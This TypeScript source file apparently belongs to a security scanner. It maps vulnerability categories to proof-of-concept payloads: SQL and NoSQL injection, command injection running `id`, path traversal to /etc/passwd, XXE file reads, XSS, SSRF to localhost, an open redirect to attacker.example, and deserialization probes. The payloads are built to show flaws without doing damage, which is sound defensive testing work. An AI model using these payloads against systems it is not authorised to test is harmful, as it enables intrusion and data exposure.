/*
 * What to send to see that a flaw is one, per category of rule. Payloads show, they do not harm: they read, compute or
 * call out, and never delete or overwrite.
 */

/** Where the value lands in the text that it becomes part of. */
export type Quote = '' | "'" | '"';

export interface Payload {
  /** The value to send in a text parameter. */
  readonly text: (quote: Quote) => string;
  /** What to send instead where a JSON body carries the value. */
  readonly json?: unknown;
  /** Suffix of a parameter's name in a query or form: `id[$ne]`. */
  readonly nameSuffix?: string;
  /** The content type of a request whose whole body is the value; default `text/plain`. */
  readonly contentType?: string;
  /** What shows that it worked. */
  readonly effect: string;
}

const TRAVERSAL = '../../../../../../etc/passwd';

export const PAYLOADS: Readonly<Record<string, Payload>> = {
  'sql injection': {
    text: (quote) => (quote === '' ? '0 OR 1=1' : `x${quote} OR ${quote}1${quote}=${quote}1`),
    effect: 'The condition is now always true: the statement touches every row instead of one.',
  },
  'nosql injection': {
    text: () => '',
    nameSuffix: '[$ne]',
    json: { $ne: null },
    effect: 'The value arrives as an operator, not as a text: the query matches every document.',
  },
  'nosql injection, joined': {
    text: (quote) => (quote === '' ? '0 || 1==1' : `x${quote} || ${quote}1${quote}==${quote}1`),
    effect: 'The condition is now always true: the query matches every document.',
  },
  'command injection': {
    text: (quote) => (quote === '' ? 'x; id' : `x${quote}; id; echo ${quote}`),
    effect: 'The answer, or the process list of the host, shows that `id` ran.',
  },
  'code injection': {
    text: (quote) => `${quote}+(6*7)+${quote}`.replace(/^\+\(6\*7\)\+$/, '6*7'),
    effect: 'The program computes 42: the text was run as code.',
  },
  'template injection': {
    text: () => '<%= 6*7 %>{{6*7}}${6*7}#{6*7}',
    effect: 'One of the four notations comes back as 42: the text was run as a template.',
  },
  'path traversal': { text: () => TRAVERSAL, effect: 'A file outside of the intended folder is used: `/etc/passwd` on a POSIX host, with what the program appends to it.' },
  'file inclusion': { text: () => TRAVERSAL, effect: 'A file that the program never meant to load is loaded.' },
  'cross-site scripting': {
    text: (quote) => `${quote}><script>alert(document.domain)</script>`.replace(/^>/, ''),
    effect: "The script stands in the page unescaped, and a browser runs it in the site's name.",
  },
  'cross-site scripting, in the browser': {
    text: () => '<img src=x onerror=alert(document.domain)>',
    effect: "The page shows the alert: what the address or message says ran in the site's name.",
  },
  'command injection, argument-injection': { text: () => 'id', effect: 'The answer shows that `id` was started in place of the intended program.' },
  'server-side request forgery': {
    text: () => 'http://127.0.0.1:22/',
    effect: "The server itself connects to its own port 22: the answer or its delay tells what listens there.",
  },
  'open redirect': { text: () => 'https://attacker.example/', effect: 'The answer sends the browser to `attacker.example`.' },
  'prototype pollution': {
    text: () => '__proto__',
    json: JSON.parse('{"__proto__":{"polluted":"yes"}}'),
    effect: 'Afterwards `({}).polluted` is `yes` in the whole process.',
  },
  'insecure deserialization': {
    text: () => '{"probe":"_$$ND_FUNC$$_function(){throw new Error(6*7)}()"}',
    effect: 'The error says 42: a function that stands in the text was run.',
  },
  'insecure deserialization, yaml': {
    text: () => 'probe: !!js/function "function(){throw new Error(6*7)}"',
    contentType: 'application/yaml',
    effect: 'The value becomes a function instead of a text: the sender decides which types are made.',
  },
  'insecure deserialization, java': {
    text: () => 'rO0ABXNyAA5jb250cm9sbGVkLlR5cGU=',
    contentType: 'application/octet-stream',
    effect: 'The error names the type of the sent object: the sender decides which types are made.',
  },
  'insecure deserialization, python': {
    text: () => 'c__builtin__\nint\n(S\'42\'\ntR.',
    contentType: 'application/octet-stream',
    effect: 'The result is the number 42: the data said which function to call.',
  },
  'xml external entities': {
    text: () => '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>',
    contentType: 'application/xml',
    effect: "The host's name stands where the entity was: the parser read the file.",
  },
  'ldap injection': { text: () => '*)(objectClass=*', effect: 'The filter matches every entry.' },
  'xpath injection': {
    text: (quote) => (quote === '' ? '1 or true()' : `x${quote} or ${quote}1${quote}=${quote}1`),
    effect: 'The expression selects every node.',
  },
  'header injection': { text: () => 'x\r\nX-Injected: yes', effect: 'The answer carries the header `X-Injected`.' },
  'log injection': { text: () => 'x\nINFO forged entry', effect: 'The log has a line of its own that the program never wrote.' },
  'regular expression denial of service': {
    text: () => `${'a'.repeat(40)}!`,
    effect: 'The answer takes far longer than for `a!`, and doubles with a few more characters of the right kind.',
  },
  'mass assignment': { text: () => 'true', json: { isAdmin: true }, effect: 'The stored record has a field that the form does not offer.' },
  'trust boundary violation': { text: () => 'chosen-by-the-caller', effect: 'The value stands in the session, where other code takes it for checked.' },
};

const FALLBACK: Payload = { text: () => 'whitebox-probe', effect: 'The value arrives at the place unchanged.' };

/**
 * The payload for a category; a marker that can be followed where the category has none. `variants` pick a form of it
 * where there is one, the first first: how the value is used (`joined`, `yaml`) or the language.
 */
export function payloadFor(category: string, variants: readonly string[] = []): Payload {
  for (const name of [...variants.map((variant) => `${category}, ${variant}`), category]) {
    const payload = Object.hasOwn(PAYLOADS, name) ? PAYLOADS[name] : undefined;
    if (payload !== undefined) return payload;
  }
  return FALLBACK;
}
